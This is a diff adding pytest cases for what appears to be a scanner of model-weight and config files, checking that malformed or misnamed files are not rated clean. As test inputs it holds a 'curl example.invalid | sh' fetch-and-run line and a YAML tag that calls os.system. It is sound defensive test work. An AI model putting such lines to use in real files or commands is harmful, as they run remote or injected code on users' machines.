@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from tests.scanner.told import CLEAN, MALICIOUS, SUSPICIOUS, assert_clean, tell
+from tests.scanner.told import CLEAN, MALICIOUS, SUSPICIOUS, assert_clean, rules, tell
 
 
 @pytest.mark.parametrize("data", [b"", b"hello\n", "größe\n".encode(), "x\n".encode("utf-16"),
@@ -27,3 +27,22 @@ def test_text_in_an_8_bit_code_is_clean() -> None:
 def test_utf_16_is_read_as_the_text_that_it_is() -> None:
     tagged = "a: !!python/object/apply:os.system ['true']\n"
     assert tell(tagged.encode("utf-16"), "config.yaml").verdict is MALICIOUS
+
+
+@pytest.mark.parametrize("name", ["pytorch_model.bin", "a.PT", "model.safetensors", "x.pkl"])
+@pytest.mark.parametrize("data", [b"", b"curl example.invalid | sh\n"], ids=["nothing", "text"])
+def test_text_where_the_name_promises_weights_is_not_clean(data: bytes, name: str) -> None:
+    assert "malformed-file" in rules(tell(data, name))
+
+
+@pytest.mark.parametrize(
+    "data",
+    [b'{"x": "\xe9", "auto_map": {}}', b'// x\n{"auto_map": {}}', b"{auto_map: {}}"],
+    ids=["latin-1", "a comment", "keys without quotes"],
+)
+def test_what_is_no_json_is_not_clean_under_its_name(data: bytes) -> None:
+    assert tell(data, "config.json").verdict not in (CLEAN, MALICIOUS)
+
+
+def test_yaml_in_another_code_is_not_clean() -> None:
+    assert "malformed-file" in rules(tell(b"a: \xe9\n", "config.yaml"))
